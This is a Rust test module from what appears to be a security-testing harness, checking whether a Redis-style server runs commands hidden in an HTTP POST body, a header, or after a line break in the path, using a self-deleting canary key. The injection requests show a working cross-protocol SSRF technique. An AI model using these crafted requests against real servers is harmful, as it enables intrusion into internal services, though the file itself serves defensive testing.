//! ATK-020.

use redan_model::ProofVerdict;

use crate::attack;
use crate::attack::Outcome;
use crate::catalog::wire::answer;
use crate::scene::Scene;

attack! {
    /// Sends requests as a browser or a service that fetches addresses can be made to send them:
    /// commands in the body of a `POST`, in a header, and behind a line break in the path, before
    /// the server sees `Host:`.
    ///
    /// # Gain
    /// A page that somebody opens, or an address that a service is asked to fetch, commands a
    /// server that only this host can reach.
    ///
    /// # Clean-up
    /// The command makes a canary key, which is deleted.
    ///
    /// # Sources
    /// - SSRF in the OWASP Top Ten (<https://owasp.org/Top10/A10_2021-Server-Side_Request_Forgery_%28SSRF%29/>)
    /// - Redis source, `securityWarningCommand` in `src/networking.c` (<https://github.com/redis/redis>)
    "ATK-020", "http-request";
    title: "A request of a browser runs commands",
    proves: ["NET-010", "AUTH-001"], needs: [],
    destructive: false, turn: Together,
    run: run,
}

async fn run(scene: &Scene) -> Outcome {
    let key = scene.canary("from-a-browser");
    scene.delete_later(None, 0, &key);
    // The server hangs up at `Host:` and drops replies: what was done shows afterwards only.
    let command = |place: &str| format!("SET {key} {place} EX 60\r\n");
    let [body, header, path] = ["body", "header", "path"].map(command);
    let requests = [
        ("body", format!("POST / HTTP/1.1\r\nHost: server\r\n\r\n{body}")),
        ("header", format!("GET / HTTP/1.1\r\n{header}Host: server\r\n\r\n")),
        ("path", format!("GET /\r\n{path} HTTP/1.1\r\nHost: server\r\n\r\n")),
    ];
    for (place, request) in requests {
        answer(scene, request.as_bytes(), None).await?;
        let found = scene.stranger().await?.ask(&["GET", &key]).await?;
        if found.to_text().is_some_and(|value| value == place) {
            let reason = format!("a command in the {place} of an HTTP request is carried out");
            return Ok(ProofVerdict::Succeeded(reason));
        }
    }
    Ok(ProofVerdict::Blocked("HTTP requests carry no command in".into()))
}
